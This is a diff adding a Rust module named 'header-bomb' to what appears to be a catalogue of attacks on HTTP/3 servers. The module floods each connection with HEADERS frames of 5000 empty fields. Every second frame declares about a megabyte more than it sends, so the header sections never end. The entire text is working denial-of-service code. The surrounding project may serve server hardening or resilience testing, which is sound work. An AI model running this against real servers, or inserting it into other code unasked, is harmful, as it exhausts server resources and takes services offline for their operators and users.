@@ -1,0 +1,43 @@
+//! Field sections beyond every limit.
+
+use crate::attack::{Plan, Victim};
+use crate::http::{self, Method};
+
+use super::{Crowd, crowd};
+
+/// How the attack is listed.
+pub(super) const PLAN: Plan = Plan {
+    name: "header-bomb",
+    labels: &["A73"],
+    summary: "HEADERS frames with thousands of short fields, and such that never end",
+    victim: Victim::Server,
+    make: || Box::new(header_bomb()),
+};
+
+fn header_bomb() -> Crowd {
+    Crowd::new(4, |connection, progress, _| {
+        for _ in 0..crowd::permitted(connection, progress, BURST) {
+            let id = http::request_stream(progress.streams);
+            progress.streams += 1;
+            let mut section = http::section(Method::Get, "/");
+            for _ in 0..FIELDS {
+                http::put_field(&mut section, "a", b"");
+            }
+            // Every second one announces more than it sends.
+            let len = section.len() as u64 + (progress.streams % 2) * (1 << 20);
+            let mut bytes = http::header(http::HEADERS, len);
+            bytes.extend(section);
+            for (index, chunk) in bytes.chunks(1000).enumerate() {
+                let offset = index as u64 * 1000;
+                connection.push_bytes(http::stream(id, offset, chunk, false));
+            }
+        }
+    })
+    .with_begin(crowd::preface)
+}
+
+/// Requests of one connection in one turn.
+const BURST: u64 = 2;
+
+/// Fields of one section, of 34 bytes each by the count of RFC 9114 §4.2.2.
+const FIELDS: usize = 5000;
